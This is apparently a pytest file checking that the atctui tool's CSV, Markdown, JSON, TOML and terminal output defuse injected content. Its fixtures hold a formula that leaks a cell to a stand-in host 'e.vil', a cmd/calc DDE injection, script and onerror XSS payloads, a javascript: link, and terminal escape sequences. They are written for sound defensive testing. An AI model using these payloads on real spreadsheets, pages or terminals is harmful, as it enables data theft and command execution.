"""What an export carries out of atctui never acts where it lands: no formula runs in a
spreadsheet, no HTML or link runs in a rendered Markdown page, no control character
reaches a terminal or the clipboard, and an empty view exports without a crash."""

from __future__ import annotations

import csv
import html
import io
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from tests.helpers import dataset_with, long_value_dataset, run_cli

from atctui.export import render
from atctui.loading import load
from atctui.views import View, build

FORMULAS = [
    '=HYPERLINK("http://e.vil/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTab first",
    "\rReturn first",
]
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "[click me](javascript:alert(3))",
    "`code` and *emphasis* and __strong__ | a pipe ~~struck~~",
    "&lt;already an entity&gt; & <b>bold</b>",
]


def test_csv_cells_never_start_a_formula_unless_raw(tmp_path: Path) -> None:
    path = dataset_with(tmp_path, FORMULAS)
    for view in ("participants", "timeline"):
        result = run_cli("export", view, "--data", str(path), "--format", "csv")
        assert result.returncode == 0, result.stderr
        cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        if view == "participants":  # the names, each in a cell of its own
            assert '\'=HYPERLINK("http://e.vil/?leak="&A1,"Click")' in cells
            assert "'-2+3" in cells and "'@SUM(1,2)" in cells
    raw = run_cli("export", "participants", "--data", str(path), "--format", "csv", "--raw")
    cells = [cell for row in csv.reader(io.StringIO(raw.stdout)) for cell in row]
    assert FORMULAS[0] in cells and "-2+3" in cells
    # Control characters are shown, never written, even raw.
    assert not [c for c in cells if "\t" in c or "\r" in c]


def test_markdown_renders_the_data_as_text_never_as_html_or_links(tmp_path: Path) -> None:
    dataset = load([dataset_with(tmp_path, HTML)])
    renderer = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    for name in ("participants", "timeline"):
        page = renderer.render(render(build(name, dataset), "markdown"))
        assert not re.search(r"<(script|img|b)\b", page)
        assert "href" not in page and "<code>" not in page and "<em>" not in page
        assert "<strong>" not in page and "<s>" not in page
        # ...and the reader sees exactly the data's characters.
        text = html.unescape(re.sub(r"<[^>]+>", "", page))
        for value in HTML if name == "participants" else [HTML[0], HTML[-1]]:
            assert value in text, value


def test_an_empty_view_exports_in_every_format() -> None:
    """Before: `4 e enter` (Compare before choosing meetings) crashed in box_table."""
    empty = View("compare", "Compare", (), ())
    for fmt in ("text", "markdown", "csv", "json"):
        out = render(empty, fmt)
        assert ("Compare" if fmt in ("text", "markdown") else "compare") in out or fmt == "csv"


@pytest.mark.parametrize("command", [["config", "path"], ["config", "show"], ["validate"]])
def test_settings_echoed_on_the_terminal_show_control_characters(
    tmp_path: Path, command: list[str]
) -> None:
    """Before: a settings path or value holding ESC ] 0 ; … BEL retitled the terminal and
    ESC [ 2 J cleared it, when atctui echoed it."""
    import os
    import subprocess
    import sys

    escapes = "\x1b]0;TITLE\x07\x1b[2J"
    settings = tmp_path / f"settings{escapes}.toml"
    settings.write_text(f'theme = "{escapes.encode("unicode_escape").decode()}"\n[bad\n')
    env = {**os.environ, "ATCTUI_CONFIG": str(settings), "ATCTUI_EXPORT_FORMAT": escapes}
    result = subprocess.run(
        [sys.executable, "-m", "atctui", *command],
        capture_output=True, text=True, env=env, timeout=60,
    )  # fmt: skip
    assert "Traceback" not in result.stderr
    for stream in (result.stdout, result.stderr):
        assert "\x1b" not in stream and "\x07" not in stream
    assert "settings\\x1b]0;TITLE\\x07\\x1b[2J.toml" in result.stdout + result.stderr


def test_a_file_name_with_control_characters_is_shown_visibly(tmp_path: Path) -> None:
    name = tmp_path / "bad\x1b[2Jname.toml"
    name.write_text("x = [\n", encoding="utf-8")
    result = run_cli("validate", str(name))
    assert result.returncode == 1
    assert "\x1b" not in result.stderr and "bad\\x1b[2Jname.toml" in result.stderr


def test_a_very_long_value_is_cut_for_reading_and_kept_whole_for_data(tmp_path: Path) -> None:
    """Before: the text export of a 100 MB value took 46 s (rich wrapped all of it)."""
    path = long_value_dataset(tmp_path, 3_000_000)
    text = run_cli("export", "timeline", "--data", str(path))
    assert text.returncode == 0 and len(text.stdout) < 20_000
    assert re.search(r"… \(3,000,0\d\d\s+characters in", text.stdout.replace("│", " "))
    markdown = run_cli("export", "timeline", "--data", str(path), "-f", "markdown")
    assert re.search(r"… \(3,000,0\d\d characters in all\)", markdown.stdout)
    for fmt in ("csv", "json"):
        full = run_cli("export", "timeline", "--data", str(path), "-f", fmt)
        assert full.returncode == 0 and len(full.stdout) > 3_000_000


def test_a_toml_export_of_no_records_is_refused_not_written_invalid(tmp_path: Path) -> None:
    """Before: an empty file, which `atctui validate` refuses ('empty file')."""
    out = tmp_path / "none.toml"
    data = str(dataset_with(tmp_path, ["Someone"]))
    result = run_cli(
        "export", "timeline", "--data", data, "-q", "xyzzy", "-f", "toml", "-o", str(out)
    )
    assert result.returncode == 1
    assert result.stderr == "atctui: the view holds no records: there is no dataset to write\n"
    assert not out.exists()


@pytest.mark.parametrize("view", ["timeline", "participants", "exercises"])
def test_a_toml_export_of_no_rows_writes_nothing_even_with_people(view: str) -> None:
    """Before: the bundled data's people (and their sources) came with every subset, so an
    empty view wrote them alone, exit 0 (attack report 3, A5)."""
    result = run_cli("export", view, "-q", "zzzzzz", "-f", "toml")
    assert result.returncode == 1 and result.stdout == ""
    assert "the view holds no records" in result.stderr


def test_json_toml_and_csl_json_write_no_character_that_acts_on_a_terminal(
    tmp_path: Path,
) -> None:
    """Before: json.dumps wrote U+009B (CSI, a C1 control) and U+202E raw to stdout; the
    values read back are the same."""
    import json
    import tomllib

    title = "M \u009b31m C1red \u202e evil \U000e0041"
    data = tmp_path / "d.toml"
    data.write_text(
        '[[sources]]\nid = "s"\nkind = "web_page"\nurl = "https://e.x/"\n'
        f"title = {json.dumps(title, ensure_ascii=False)}\n"
        '[[meetings]]\nid = "m"\nnumber = 1\ndate = "2019"\n'
        f"title = {json.dumps(title, ensure_ascii=False)}\n"
        'citations = [{ source = "s" }]\n',
        encoding="utf-8",
    )
    outputs = {
        fmt: run_cli("export", "timeline", "--data", str(data), "-f", fmt)
        for fmt in ("json", "toml")
    }
    outputs["csl-json"] = run_cli("sources", "--data", str(data), "-f", "csl-json")
    for fmt, result in outputs.items():
        assert result.returncode == 0, (fmt, result.stderr)
        assert not re.search("[\x80-\x9f\u202e\U000e0041]", result.stdout), fmt
    assert json.loads(outputs["json"].stdout)["rows"][0]["title"] == f"I 2019: {title}"
    assert tomllib.loads(outputs["toml"].stdout)["meetings"][0]["title"] == title
    assert json.loads(outputs["csl-json"].stdout)[0]["title"] == title


def test_output_dash_is_the_standard_output_not_a_file(tmp_path: Path) -> None:
    """Before: `--output -` wrote a file named '-' in the working folder."""
    out = run_cli("export", "exercises", "-q", "host:kyrgyzstan", "-f", "csv", "-o", "-",
                  cwd=tmp_path)  # fmt: skip
    assert out.returncode == 0, out.stderr
    assert out.stdout.startswith("id,Exercise,") and list(tmp_path.iterdir()) == []
